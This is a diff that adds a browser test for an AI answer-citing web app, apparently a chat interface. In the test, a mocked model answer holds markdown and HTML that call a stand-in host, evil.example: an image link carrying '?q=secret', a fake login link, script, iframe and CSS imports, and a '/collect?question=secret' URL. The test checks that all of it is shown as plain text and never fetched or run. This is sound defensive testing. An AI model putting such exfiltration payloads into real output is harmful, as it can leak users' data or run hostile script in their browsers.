@@ -38,6 +38,29 @@ describeInBrowser(
       expect(opened.strangers).toEqual([]);
     });
 
+    test("that was told to phone home is shown as the text it is: nothing is asked for, opened or run", async () => {
+      const pieces = [
+        "![x](https://evil.example/?q=secret) [the report](https://evil.example/login) ",
+        '<img src="https://evil.example/a.png" onerror="window.ran=1"><script src="https://evil.example/a.js"></script> ',
+        '<iframe src="https://evil.example"></iframe><style>@import url(https://evil.example/a.css)</style> ',
+        "https://evil.example/collect?question=secret [1].",
+      ];
+      if (llm) llm.behaviour = { kind: "answer", pieces };
+      await using opened = await open();
+      const { page } = opened;
+      await page.getByRole("combobox", { name: "writer" }).selectOption("local");
+      await ask(page, "What is this?");
+      const answer = page.locator(".cited-text");
+      expect(await answer.innerText()).toContain("[the report](https://evil.example/login)");
+      expect(await answer.locator("a, img, script, iframe, style").count()).toBe(0);
+      await page.locator("article.turn summary").click();
+      expect(await page.locator(".sentence-checks tbody tr").count()).toBeGreaterThan(0);
+      expect(await page.locator(".sentence-checks :is(a, img, script, iframe, style)").count()).toBe(0);
+      expect(await page.evaluate(() => "ran" in globalThis)).toBe(false);
+      expect(opened.strangers).toEqual([]);
+      if (llm) llm.behaviour = { kind: "answer", pieces: [...beginning, ...rest] };
+    });
+
     test("is read while it writes, and stopped: what it had said stays and is called a part", async () => {
       if (llm) llm.behaviour = { kind: "hang", pieces: beginning };
       await using opened = await open();
